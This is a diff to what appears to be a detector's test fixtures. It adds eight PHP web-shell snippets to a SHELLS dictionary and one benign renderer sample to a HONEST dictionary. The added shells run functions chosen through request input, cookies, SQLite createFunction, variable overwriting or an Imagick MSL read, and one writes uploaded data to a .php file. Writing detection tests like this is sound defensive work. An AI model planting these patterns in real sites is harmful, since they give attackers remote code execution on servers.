@@ -29,6 +29,14 @@ SHELLS = {
     f"{EXECUTE}($p . ' &');",
     "path completed": "$n = $_GET['n'] ?? 'a.html'; file_put_contents(__DIR__ . '/up/' . $n, $_POST['d']);",
     "pictures": f"$🎋 = $_GET['a']; {RUN}($🎋);",
+    "taken apart": "[$f, $a] = explode('|', $_COOKIE['z'] ?? 'trim|x'); echo $f($a);",
+    "in pairs": "foreach (array_map(null, $_GET['f'], $_GET['a']) as [$f, $a]) { echo $f($a); }",
+    "filtered by": "foreach (new CallbackFilterIterator(new ArrayIterator([$_GET['a']]), $_GET['f']) as $x) { echo $x; }",
+    "database's function": "$d->createFunction('r', $_GET['f']);",
+    "renamed": "file_put_contents('t.txt', $_POST['b']); rename('t.txt', 'a.php');",
+    "script of pictures": "$m = new Imagick(); $m->readImage('msl:' . $_FILES['i']['tmp_name']);",
+    "all variables": "$run = 'trim'; foreach ($_GET as $k => $v) { $GLOBALS[$k] = $v; } echo $run($w ?? '');",
+    "query's variables": "$f = 'trim'; $a = ''; parse_str(file_get_contents('php://input')); echo $f($a);",
     "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
 }
 HONEST = {
@@ -38,6 +46,8 @@ HONEST = {
     "word of a framework": f"$input = new JInput; {EVALUATE}('class ' . $input->getCmd('a') . ' extends B {{}}');",
     "settings": "file_put_contents('c.php', '<?php return ' . var_export(['a' => $_POST['a']], true) . ';');",
     "part of a library": "require_once LIBRARIES . '/src/strrev.php';",
+    "renderer": "if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) "
+    "{ echo file_get_contents('http://127.0.0.1:3000/' . $_SERVER['REQUEST_URI']); }",
     "own program written": "file_put_contents('c.php', '<?php return [1, 2];');",
     "theme of a site": "$t = $_GET['t'] ?? 'home'; if (!preg_match('/^[a-z]+$/', $t)) { exit; } include __DIR__ . '/' . $t;",
 }
